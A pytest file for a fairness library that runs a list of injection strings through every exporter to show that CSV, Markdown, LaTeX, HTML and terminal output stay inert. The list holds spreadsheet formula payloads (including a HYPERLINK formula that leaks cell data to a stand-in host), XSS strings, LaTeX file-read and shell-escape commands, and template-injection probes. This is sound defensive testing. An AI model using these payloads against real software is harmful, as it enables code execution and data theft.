"""What leaves a run is text in every format, whatever a name holds.

One list of attacks goes as every name and text through every exporter.
"""

import csv
import html.parser
import io
import json
import pathlib
import re
import string

import numpy as np
import pandas as pd
import pytest

import fairjax
from fairjax import results
from fairjax.core import escape
from fairjax.report import documents, page, render, result_views

ROOT = pathlib.Path(escape.__file__).parents[1]
ATTACKS = (
  *("=cmd|'/C calc'!A0", '+1+cmd', '-2+3', '@SUM(A1)', '\t=1', '  =1+1'),
  *('＝1+1', '=HYPERLINK("https://e.vil/?"&A1)', '\r\n=1', '|a|b|'),
  *('<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '<b>b</b>'),
  *("' onmouseover='alert(1)", '</style><svg onload=alert(1)>', '&lt;b&gt;'),
  *('[click](https://e.vil)', '![x](http://e.vil/p.png)', '<https://e.vil>'),
  *('https://e.vil', 'www.e.vil', 'me@e.vil', '[a]: https://e.vil', '# big'),
  *('`x` **b** __b__ ~~s~~', '$x$', '\\input{/etc/passwd}', '[-99cm] a'),
  *('\\end{tabular}', '* x', '%', 'a & b \\\\', '{', '^^5cinput'),
  *('\ufeff=1+1', '\u200b@SUM(A1)', '\x0b=1', '\u2066=1', '﹦1', '⁼1'),
  *('a;=1+1', 'a; @SUM(A1)', 'a\t=1+1', 'a\n+1', "1;=cmd|'/C calc'!A0"),
  *('</script><script>1</script>', '<!--', ']]>', 'javascript:alert(1)'),
  *('\\write18{id}', '\\catcode`\\@=0', '$\\frac{$', '!!python/object:os.x'),
  *('../../x', '\U000e0001a', '%0A=1', '{{7*7}}', '${7*7}', "=1+1'"),
  *('---\nresults: []', '\x1b[31m', '\u202egnp', '"; x: \''),
)


class Tags(html.parser.HTMLParser):
  def __init__(self, page):
    super().__init__()
    self.found = []
    self.feed(page)

  def handle_starttag(self, tag, attributes):
    self.found.append((tag, dict(attributes)))


def check_html(text, where):
  for tag, attributes in Tags(text).found:
    assert tag not in ('script', 'img', 'iframe', 'object', 'b!'), where
    assert not [k for k in attributes if k.startswith('on')], where
    link = attributes.get('href', '#')
    assert link.startswith(('#', 'data:')) or 'e.vil' not in link, where


def check_csv(text, where):
  for row in csv.reader(io.StringIO(text)):
    for cell in row:
      # Marks that a spreadsheet may take for the end of a cell, too.
      for part in re.split('[;\t\r\n]', cell):
        bare = part.lstrip(' \x0b\xa0\u200b\ufeff\u2066')
        if bare[:1] in tuple('=+-@＝＋－＠﹦⁼') and bare:
          float(part)  # a number, or it would run
      assert cell[:1] not in tuple('\t\r\n'), where


def check_markdown(text, where):
  """As GFM reads it: no tag, link, heading, code or emphasis that is ours."""
  front, _, body = text.removeprefix('---\n').partition('\n---\n')
  for line in front.splitlines():
    assert re.fullmatch(r'[ -]*[\w-]+:( ("([^"\\]|\\.)*"|[^"]*))?', line), line
  body = re.sub(r'\\[' + re.escape(string.punctuation) + ']', '', body)
  wrong = re.search(r'<[a-z/!]|`|\]\(|\]:|://|www\.|@e|\*', body)
  assert not wrong, (where, wrong)
  heads = [line for line in body.splitlines() if line.startswith('#')]
  most = 9 if where == 'model_card.md' else 1 + body.count('field | record')
  assert len(heads) == most, where


def check_tex(text, where):
  """Rows of as many cells as there are columns; no command but ours."""
  ours = {'begin', 'end', 'toprule', 'midrule', 'bottomrule'}
  ours |= {'textbackslash', 'textasciitilde', 'textasciicircum'}
  lines = [line for line in text.splitlines() if line[:1] != '%']
  for line in lines:
    line = re.sub(r'\\[&%$#_{}]', '', line)
    assert set(re.findall(r'\\([a-zA-Z]+)', line)) <= ours, where
    assert not re.search(r'[%$#~^]', line), where
    assert not re.match(r'[\[*]', line), where
  columns = [re.search(r'tabular}{(l[r]*)}', line) for line in lines]
  width = [len(found[1]) for found in columns if found]
  for line in lines:
    if line.endswith(r'\\'):
      cells = re.sub(r'\\&', '', line).count('&') + 1
      assert cells in width, where


@pytest.fixture(scope='module')
def plain_run(tmp_path_factory, hostile):
  return hostile(tmp_path_factory.mktemp('plain'), 'MARKER')


@pytest.mark.parametrize('attack', ATTACKS)
def test_every_document(attack, plain_run):
  text = json.dumps(results.plain(results.read(plain_run)))
  spelled = json.dumps(attack)[1:-1]
  found = results.from_tree(json.loads(text.replace('MARKER', spelled)))
  checks = {'.csv': check_csv, '.md': check_markdown, '.tex': check_tex}
  every = documents.texts(found)
  assert {pathlib.Path(n).suffix for n in every} >= set(checks)
  for name, text in every.items():
    assert re.fullmatch(r'[\w.]+', name)
    check = checks.get(pathlib.Path(name).suffix)
    if check:
      check(text, name)
  links = results.section('links', documents.links(every))
  check_html(render.page('x', [links]), 'links')


def test_the_page(tmp_path, hostile):
  """All attacks at once: pictures take their time."""
  folder = hostile(tmp_path, ' '.join(ATTACKS))
  found = page.report(folder)
  check_html(found, 'page')
  policy = re.search(r'Security-Policy" content="([^"]+)"', found)[1]
  assert "default-src 'none'" in policy and 'script' not in policy
  assert '<meta name="referrer" content="no-referrer">' in found
  # What the policy allows is what the page has.
  assert not re.search(r'(src|href)="https?:|@import|url\([^#]', found)


@pytest.mark.parametrize('attack', ATTACKS)
def test_tables_of_the_library(attack):
  frame = pd.DataFrame({attack: [attack, '-0.5', 'plain'], 'n': [1, 2.5, None]})
  text = escape.csv(frame)
  check_csv(text, 'csv')
  again = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
  assert list(again.iloc[1:, 0]) == ['-0.5', 'plain']
  kept = re.sub(r"([;\t\n] ?)'", r'\1', again.iloc[0, 0])
  assert kept in (attack, f"'{attack}") or '\r' in attack
  one = {'measure': attack, 'difference': {'value': 0.1}, 'p': 0.5}
  shown = result_views.Comparison([one | {'test': attack}])
  check_html(shown._repr_html_(), 'notebook')
  check_terminal(repr(shown))


def check_terminal(text):
  for line in text.splitlines():
    assert not re.search('[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]', line)


@pytest.mark.parametrize('face', ['assess', 'compare', 'thresholds', 'audit'])
def test_faces_of_the_library(face):
  """Names of groups in a terminal and in a notebook, all at once."""
  names = [one for one in ATTACKS if one.strip()]
  group = np.repeat(names, 10)
  y = np.tile([0, 1], len(group) // 2)
  p = np.random.default_rng(0).random(len(group))
  few = {'n_resamples': 5}
  first = fairjax.assess(y, p, group, **few)
  if face == 'thresholds':
    few['criterion'] = 'demographic_parity'
    found = fairjax.thresholds(y, p, group, **few)
  elif face == 'audit':
    rows = pd.DataFrame({'label': y, 'g': group, 'score': p})
    found = fairjax.audit('score', rows, groups='g', options=few)
  else:
    found = first if face == 'assess' else fairjax.compare(first, first)
  check_terminal(repr(found))
  shown = found._repr_html_()
  if face == 'audit':  # a page in a frame that may do nothing
    assert re.match(r'<iframe srcdoc="[^"]*" [^>]*sandbox="[^"s]', shown)
    assert 'allow-scripts' not in shown and 'allow-same-origin' not in shown
  else:
    check_html(shown, face)
    check_terminal(shown)


# Files that are read again, by us or by the user's own program: as they are.
RAW = {
  *('recipes/audit/recipe.py', 'pairs/flow_words.py'),
  'benchmarks/planted_associations.py',
}


def test_every_exporter_uses_the_door():
  second = re.compile(
    r'html\.escape|import html|to_csv\(|csv\.(Dict)?[wW]riter'
    r'|to_(latex|markdown)\(|textbackslash'
  )
  others = {
    str(path.relative_to(ROOT))
    for path in ROOT.rglob('*.py')
    if path.relative_to(ROOT).parts[0] != 'bench'
    and path.name != 'escape.py'
    and second.search(path.read_text(encoding='utf-8'))
  }
  assert others == RAW
